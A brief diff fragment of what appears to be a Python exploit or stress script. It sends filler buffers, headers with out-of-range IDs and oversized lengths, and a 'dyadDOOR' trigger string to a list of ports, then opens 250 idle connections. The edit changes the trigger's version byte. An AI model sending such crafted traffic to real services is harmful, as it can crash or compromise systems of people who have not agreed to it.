@@ -80,7 +80,7 @@ for port in there:
     say(port, put(16, b"x" * 4096))
     for i in range(4):
         say(port, MAGIC + HEAD.pack(AM_ID_MAX + i, 0xFFFFFFF0 >> i) + bytes(64))
-    say(port, b"dyadDOOR\1" + bytes(91))
+    say(port, b"dyadDOOR\2" + bytes(91))
     for _ in range(250):
         try:
             idle.append(connect(port))
